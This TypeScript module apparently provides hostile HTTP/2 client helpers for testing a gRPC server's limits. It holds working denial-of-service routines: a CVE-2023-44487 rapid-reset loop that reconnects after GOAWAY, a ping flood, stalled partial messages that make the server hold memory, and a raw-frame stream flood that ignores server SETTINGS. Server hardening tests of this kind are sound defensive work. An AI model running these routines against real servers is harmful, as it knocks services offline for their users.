import { readFileSync } from 'node:fs';
import { connect as connectTcp } from 'node:net';
import { connect, constants, type ClientHttp2Session } from 'node:http2';

// Hostile HTTP/2 clients for tests of server limits: each speaks to a real server over a real
// socket, below grpc-js, doing what no well-behaved gRPC client does.

/** A gRPC request's HEADERS for `path` (e.g. /switchyard.user.v1.UserService/GetUser). */
export function grpcRequestHeaders(path: string, extra: Record<string, string> = {}) {
  return { ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers', ...extra };
}

/** The 5-byte gRPC frame around a serialized message. */
export function grpcFrame(message: Uint8Array): Buffer {
  const header = Buffer.alloc(5);
  header.writeUInt32BE(message.length, 1);
  return Buffer.concat([header, message]);
}

function openSession(address: string): Promise<ClientHttp2Session> {
  return new Promise((resolve, reject) => {
    // Room for all the streams we open, whatever the server's SETTINGS say before they arrive.
    const session = connect(`http://${address}`, { peerMaxConcurrentStreams: 1 << 20 });
    session.once('connect', () => resolve(session));
    session.once('error', reject);
  });
}

export interface GoAway {
  errorCode: number;
  debugData: string;
}

export interface RapidResetResult {
  /** Streams opened (HEADERS sent) and cancelled (RST_STREAM CANCEL) at once, over all connections. */
  opened: number;
  /** Connections used: the attacker opens another each time the server closes one. */
  connections: number;
  /** The GOAWAYs the server sent to end the attacker's connections. */
  goaways: GoAway[];
}

/**
 * HTTP/2 rapid reset (CVE-2023-44487): opens `count` streams, each a real call of `path`, and
 * cancels each at once, so the server does the work of starting calls that never count against
 * its concurrent-stream limit. All on one connection while the server keeps it open; when the
 * server closes it, the attacker connects again and goes on.
 */
export async function rapidReset(address: string, path: string, count: number): Promise<RapidResetResult> {
  const result: RapidResetResult = { opened: 0, connections: 0, goaways: [] };
  while (result.opened < count) {
    const session = await openSession(address);
    result.connections += 1;
    session.on('goaway', (errorCode, _lastStreamId, data) => result.goaways.push({ errorCode, debugData: data?.toString() ?? '' }));
    session.on('error', () => {});
    try {
      for (let i = 0; result.opened < count && !session.closed && !session.destroyed; i++) {
        const stream = session.request(grpcRequestHeaders(path), { endStream: false });
        stream.on('error', () => {});
        stream.close(constants.NGHTTP2_CANCEL);
        result.opened += 1;
        // Yield now and then, so frames go out (and a GOAWAY comes in) while we keep opening streams.
        if (i % 500 === 499) await new Promise((resolve) => setImmediate(resolve));
      }
      // Let the last frames reach the server before the connection goes.
      await new Promise((resolve) => setTimeout(resolve, 100));
    } finally {
      session.destroy();
    }
  }
  return result;
}

export interface PingFloodResult {
  pingsSent: number;
  goaway?: GoAway;
  /** The connection was closed by the server before `durationMs` ran out. */
  closedByServer: boolean;
}

export interface PingFloodOptions {
  /** Also start a call with this request before each ping, as clients that ping along with their calls do. */
  call?: { path: string; message: Uint8Array };
}

/** Pings every `intervalMs` for up to `durationMs` on one connection (with no calls, unless `options.call`). */
export async function pingFlood(address: string, intervalMs: number, durationMs: number, options: PingFloodOptions = {}): Promise<PingFloodResult> {
  const session = await openSession(address);
  let goaway: GoAway | undefined;
  let closedByServer = false;
  session.on('goaway', (errorCode, _lastStreamId, data) => (goaway = { errorCode, debugData: data?.toString() ?? '' }));
  session.on('error', () => {});
  const closed = new Promise<void>((resolve) => session.once('close', () => ((closedByServer = true), resolve())));
  let pingsSent = 0;
  const timer = setInterval(() => {
    if (session.closed || session.destroyed) return;
    try {
      if (options.call) {
        const stream = session.request(grpcRequestHeaders(options.call.path));
        stream.on('error', () => {}).resume();
        stream.end(grpcFrame(options.call.message));
      }
      if (session.ping(() => {})) pingsSent += 1;
    } catch {
      // The session is going away.
    }
  }, intervalMs);
  let deadline: NodeJS.Timeout | undefined;
  await Promise.race([closed, new Promise((resolve) => (deadline = setTimeout(resolve, durationMs)))]);
  clearTimeout(deadline);
  clearInterval(timer);
  const result = { pingsSent, goaway, closedByServer };
  session.destroy();
  return result;
}

export interface PartialMessagesResult {
  /** Streams the server refused or reset. */
  refused: number;
  /** Streams still open when the attacker gave up: the server holds their partial messages. */
  held: number;
}

/**
 * Opens `streams` calls of `path` on one connection, each sending all but the last byte of a
 * `messageBytes` message and then stalling, so the server holds every partial message in memory.
 * Waits until no stream makes progress for `quietMs`, then closes the connection.
 */
export async function partialMessages(address: string, path: string, streams: number, messageBytes: number, quietMs: number): Promise<PartialMessagesResult> {
  const session = await openSession(address);
  session.on('error', () => {});
  // One shared chunk, written again and again: the attacker's memory stays small.
  const chunk = Buffer.alloc(64 * 1024, 0x61);
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(messageBytes, 1);
  let refused = 0;
  let lastProgress = performance.now();
  for (let i = 0; i < streams; i++) {
    const stream = session.request(grpcRequestHeaders(path));
    stream.on('error', () => {});
    stream.on('close', () => {
      if (stream.rstCode !== undefined && stream.rstCode !== constants.NGHTTP2_NO_ERROR) refused += 1;
    });
    stream.write(prefix);
    let left = messageBytes - 1;
    while (left > 0) {
      const size = Math.min(left, chunk.length);
      stream.write(size === chunk.length ? chunk : chunk.subarray(0, size));
      left -= size;
    }
    stream.on('drain', () => (lastProgress = performance.now()));
    stream.write(Buffer.alloc(0), () => (lastProgress = performance.now()));
  }
  while (performance.now() - lastProgress < quietMs) await new Promise((resolve) => setTimeout(resolve, 100));
  const result = { refused, held: streams - refused };
  session.destroy();
  return result;
}

/** Holds a connection open with no calls and no pings for up to `durationMs`: what does the server do? */
export async function idleConnection(address: string, durationMs: number): Promise<{ goaway?: GoAway; closedByServer: boolean; afterMs: number }> {
  const session = await openSession(address);
  const opened = performance.now();
  let goaway: GoAway | undefined;
  session.on('goaway', (errorCode, _lastStreamId, data) => (goaway = { errorCode, debugData: data?.toString() ?? '' }));
  session.on('error', () => {});
  let deadline: NodeJS.Timeout | undefined;
  const closedByServer = await Promise.race([
    new Promise<boolean>((resolve) => session.once('close', () => resolve(true))),
    new Promise<boolean>((resolve) => (deadline = setTimeout(() => resolve(false), durationMs))),
  ]);
  clearTimeout(deadline);
  const afterMs = performance.now() - opened;
  session.destroy();
  return { goaway, closedByServer, afterMs };
}

export interface StreamFloodResult {
  /** Streams the server reset with REFUSED_STREAM. */
  refused: number;
  /** Streams whose call the server answered (sent response HEADERS for). */
  answered: number;
  /** The GOAWAY the server sent, if it ended the connection. */
  goaway?: GoAway;
}

/**
 * Writes raw HTTP/2 frames over TCP, ignoring the server's SETTINGS: opens `count` streams calling
 * `path` with a complete request `message` each, waits `settleMs`, and counts what the server did
 * with them. Node's own HTTP/2 client would queue streams past the server's limit; an attacker
 * does not.
 */
export async function streamFlood(address: string, path: string, message: Uint8Array, count: number, settleMs: number): Promise<StreamFloodResult> {
  const [host, port] = [address.slice(0, address.lastIndexOf(':')), Number(address.slice(address.lastIndexOf(':') + 1))];
  const socket = connectTcp({ host, port });
  await new Promise<void>((resolve, reject) => socket.once('connect', resolve).once('error', reject));
  socket.on('error', () => {});
  const refusedIds = new Set<number>();
  const answeredIds = new Set<number>();
  let goaway: GoAway | undefined;
  let received = Buffer.alloc(0);
  socket.on('data', (chunk: Buffer) => {
    received = Buffer.concat([received, chunk]);
    while (received.length >= 9) {
      const length = received.readUIntBE(0, 3);
      if (received.length < 9 + length) break;
      const type = received[3];
      const streamId = received.readUInt32BE(5) & 0x7fffffff;
      if (type === RST_STREAM && received.readUInt32BE(9) === constants.NGHTTP2_REFUSED_STREAM) refusedIds.add(streamId);
      if (type === HEADERS) answeredIds.add(streamId);
      if (type === GOAWAY) goaway = { errorCode: received.readUInt32BE(13), debugData: received.subarray(17, 9 + length).toString() };
      if (type === SETTINGS && (received[4] & 1) === 0) socket.write(frame(SETTINGS, 1, 0, Buffer.alloc(0)));
      received = received.subarray(9 + length);
    }
  });
  // Node's client adds :scheme and :authority itself; a raw one must send them.
  const headerBlock = hpackLiterals({ ':scheme': 'http', ':authority': address, ...grpcRequestHeaders(path) });
  const body = grpcFrame(message);
  const frames = [Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(SETTINGS, 0, 0, Buffer.alloc(0))];
  for (let i = 0; i < count; i++) {
    const streamId = 2 * i + 1;
    frames.push(frame(HEADERS, END_HEADERS, streamId, headerBlock), frame(DATA, END_STREAM, streamId, body));
  }
  socket.write(Buffer.concat(frames));
  await new Promise((resolve) => setTimeout(resolve, settleMs));
  socket.destroy();
  return { refused: refusedIds.size, answered: answeredIds.size, goaway };
}

const DATA = 0x0;
const HEADERS = 0x1;
const RST_STREAM = 0x3;
const SETTINGS = 0x4;
const GOAWAY = 0x7;
const END_STREAM = 0x1;
const END_HEADERS = 0x4;

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
}

/** HPACK "literal header field without indexing, new name" for each header; no Huffman coding. */
function hpackLiterals(headers: Record<string, string>): Buffer {
  const parts: Buffer[] = [];
  for (const [name, value] of Object.entries(headers)) {
    parts.push(Buffer.from([0x00]), hpackString(name), hpackString(value));
  }
  return Buffer.concat(parts);
}

function hpackString(text: string): Buffer {
  const bytes = Buffer.from(text);
  // 7-bit prefixed length; our names and values are all shorter than 127 bytes.
  if (bytes.length >= 127) throw new Error(`header too long for this encoder: ${text}`);
  return Buffer.concat([Buffer.from([bytes.length]), bytes]);
}

/** A process's resident memory in bytes (Linux: VmRSS of /proc/<pid>/status). */
export function residentBytes(pid: number): number {
  const match = /^VmRSS:\s+(\d+) kB$/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'));
  if (!match) throw new Error(`no VmRSS for process ${pid}`);
  return Number(match[1]) * 1024;
}
